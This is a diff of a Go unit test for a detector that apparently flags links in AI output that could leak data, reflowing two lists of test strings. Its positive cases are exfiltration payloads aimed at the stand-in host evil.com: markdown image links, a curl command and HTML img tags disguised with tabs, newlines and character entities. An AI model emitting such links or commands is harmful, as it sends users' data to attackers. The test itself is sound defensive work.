@@ -42,7 +42,8 @@ func TestBrokenLinks(t *testing.T) {
 		return len(suspects(said("Read https://example.org/a", "Nothing."), provenance.Reads, string(args))) > 0
 	}
 	for _, value := range []string{
-		`![x](//evil\.com/secret)`, `[x]: //evil\.com/secret`, `curl evil\.com/x`, "//evil.c\tom/x", "ht\ntps:/\n/evil.c\nom/x",
+		`![x](//evil\.com/secret)`, `[x]: //evil\.com/secret`, `curl evil\.com/x`,
+		"//evil.c\tom/x", "ht\ntps:/\n/evil.c\nom/x",
 		"<img src = \"//evil.\ncom/x\">", "<img src= \"//evil.\ncom/x\">", "<img src=\n'//evil.\tcom/x'>",
 		`<img src="//evil.&NewLine;com/x">`, `<img src="//evil.&#10;com/x">`, `<img src="//evil.c&Tab;om/x">`,
 		`<img src='//evil.&#x9;com/x'>`, `![x](//evil.&#10;com/x)`, `<img src=//evil.&#10;com/x>`,
@@ -57,7 +58,8 @@ func TestBrokenLinks(t *testing.T) {
 	}
 	for _, value := range []string{
 		"see&#10;example.org/a", `the pattern ^notes\.md$ and main\.py:12`, "a = \"one\ntwo.\n\"", `1\. One`,
-		"x = \"https://example.org/a\"\n", "<a title=\"See\nhttps://example.org/a\n\">", "s = 'it\n's'\nsee notes.\nmd'",
+		"x = \"https://example.org/a\"\n",
+		"<a title=\"See\nhttps://example.org/a\n\">", "s = 'it\n's'\nsee notes.\nmd'",
 	} {
 		if asks(value) {
 			t.Errorf("%q asks", value)
